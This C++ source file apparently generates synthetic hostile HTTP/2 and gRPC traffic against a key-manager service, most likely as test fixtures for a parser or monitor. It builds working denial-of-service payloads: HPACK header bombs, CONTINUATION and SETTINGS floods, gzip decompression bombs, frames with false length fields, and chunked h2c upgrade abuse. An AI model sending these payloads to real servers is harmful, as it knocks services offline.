// HTTP/2 by RFC 9113 and header lists by RFC 7541, typed by hand, without Huffman's code.
#include "hostile/grpc_floods.h"

#include <zlib.h>

#include <string>

namespace ck::hostile {
namespace {

constexpr std::uint8_t kData = 0, kHeaders = 1, kSettings = 4, kContinuation = 9;
constexpr std::uint8_t kAckFlag = 1, kEndHeaders = 4;
const std::string kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

std::string frame(std::uint8_t type, std::uint8_t flags, std::uint32_t stream, std::string_view body,
                  std::size_t claimed) {
  std::string out = be32(static_cast<std::uint32_t>(claimed)).substr(1);
  out += static_cast<char>(type);
  out += static_cast<char>(flags);
  return out.append(be32(stream)).append(body);
}

std::string frame(std::uint8_t type, std::uint8_t flags, std::uint32_t stream, std::string_view body) {
  return frame(type, flags, stream, body, body.size());
}

/// A field whose value is shorter than 127 bytes, without a place in the table; `name`: its index below 15 as
/// it stands, or more than that less 15 behind 0x0F.
std::string field(std::string_view name, std::string_view value) {
  return std::string(name) + static_cast<char>(value.size()) + std::string(value);
}

std::string ask(std::uint32_t stream, std::string_view more = {}) {
  const std::string list = "\x83\x86" + field("\x04", "/qkdn.ck.v1.KeyManager/KeyReservation") +
                           field("\x0F\x10", "application/grpc") + std::string(more);
  return frame(kHeaders, kEndHeaders, stream, list);
}

/// A message's prefix, and as much of it as there is.
std::string message(std::uint8_t flag, std::size_t claimed, std::string_view bytes) {
  return static_cast<char>(flag) + be32(static_cast<std::uint32_t>(claimed)) + std::string(bytes);
}

/// Both sides have begun.
Talk opened(Writer& writer, std::uint32_t number = 0) {
  Talk talk(writer, {0x0a290001u + number / 50'000, 0x0a0e0001,
                     static_cast<std::uint16_t>(10'000 + number % 50'000), 50'051});
  talk.km(kPreface + frame(kSettings, 0, 0, {}));
  talk.controller(frame(kSettings, 0, 0, {}) + frame(kSettings, kAckFlag, 0, {}));
  return talk;
}

std::string gzipped(const std::string& plain) {
  z_stream stream{};
  deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, 16 + 15, 9, Z_DEFAULT_STRATEGY);
  std::string out(deflateBound(&stream, plain.size()) + 64, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(plain.data()));
  stream.avail_in = static_cast<uInt>(plain.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, Z_FINISH);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

}  // namespace

void rpcs(Writer& writer, std::uint32_t n) {
  Talk talk = opened(writer);
  for (std::uint32_t i = 0; i < n; ++i) talk.km(ask(1 + 2 * i));
}

void header_bombs(Writer& writer, std::uint32_t n) {
  Talk talk = opened(writer);
  // A name of one byte and a value of 3,900, with a place in the table: index 62.
  const std::string entry = std::string("\x40\x01x\x7F", 4) + "\xBD\x1D" + std::string(3'900, 'v');
  talk.km(frame(kHeaders, kEndHeaders, 1, entry));
  const std::string bomb(4'000, '\xBE');
  for (std::uint32_t i = 1; i <= n; ++i) talk.km(frame(kHeaders, kEndHeaders, 1 + 2 * i, bomb));
}

void endless_header_list(Writer& writer, std::uint32_t n) {
  Talk talk = opened(writer);
  std::string part;
  while (part.size() < 1'000) part += std::string("\x40\x03", 2) + "abc" + field("", std::string(100, 'v'));
  talk.km(frame(kHeaders, 0, 1, part));
  for (std::uint32_t i = 0; i < n; ++i) talk.km(frame(kContinuation, 0, 1, part));
}

void endless_messages(Writer& writer, std::uint32_t n) {
  constexpr std::uint32_t kParts = 4'000;  // of 1,000 bytes; a message has some more
  Talk talk = opened(writer);
  for (std::uint32_t i = 0; i < n; ++i) {
    const std::uint32_t stream = 1 + i / kParts * 2;
    if (i % kParts == 0) talk.km(ask(stream) + frame(kData, 0, stream, message(0, 4'194'304, {})));
    talk.km(frame(kData, 0, stream, std::string(1'000, 'x')));
  }
}

void gzip_bombs(Writer& writer, std::uint32_t n) {
  const std::string packed = gzipped(std::string(4'000'000, '\0'));
  Talk talk = opened(writer);
  const std::string encoding = std::string("\x00\x0D", 2) + field("grpc-encoding", "gzip");
  for (std::uint32_t i = 0; i < n; ++i) {
    const std::uint32_t stream = 1 + 2 * i;
    talk.km(ask(stream, encoding) + frame(kData, kAckFlag, stream, message(1, packed.size(), packed)));
  }
}

void settings_flood(Writer& writer, std::uint32_t n) {
  Talk talk = opened(writer);
  std::string values;
  for (std::uint32_t i = 0; i < 20; ++i) values += be16(1) + be32(i * 4'096);
  for (std::uint32_t i = 0; i < n; ++i) {
    talk.km(frame(kSettings, 0, 0, values));
    talk.km(frame(kSettings, kAckFlag, 0, {}) + frame(kSettings, kAckFlag, 0, {}));
    if (i % 200 == 0) talk.controller(frame(kSettings, kAckFlag, 0, {}));
  }
}

void lying_lengths(Writer& writer, std::uint32_t n) {
  for (std::uint32_t i = 0; i < n; ++i) {
    Talk talk = opened(writer, i);
    talk.km(ask(1) + frame(kData, 0, 1, message(0, 0xFFFF'FFFF, "x")));
    if (i % 2 == 0) {
      talk.km(frame(kHeaders, kEndHeaders, 3, "\x83", 0xFF'FFFF));
    } else {
      talk.km(frame(kData, 0, 1, "x", 0xFF'FFFF));
    }
    talk.controller(frame(kHeaders, kEndHeaders, 1, "\x88", 0xFF'FFFF));
  }
}

void endless_upgrades(Writer& writer, std::uint32_t n) {
  constexpr std::uint32_t kBytes = 20'000;
  const std::string head =
      "POST /qkdn.ck.v1.KeyManager/KeyReservation HTTP/1.1\r\nUpgrade: h2c\r\nContent-Type: "
      "application/grpc\r\n";
  for (std::uint32_t number = 0; number * kBytes < n; ++number) {
    Talk talk(writer, {0x0a290001u + number, 0x0a0e0001, 40'000, 50'051});
    talk.km(head +
            (number % 2 == 0 ? "Content-Length: 4000000\r\n\r\n" : "Transfer-Encoding: chunked\r\n\r\n"));
    for (std::uint32_t i = 0; i < kBytes / 10; ++i) {
      for (const char* piece : {"1", "\r", "\n", "x", "\r", "\n", "1;", "\r\n", "x", "\r\n"}) talk.km(piece);
    }
  }
}

}  // namespace ck::hostile
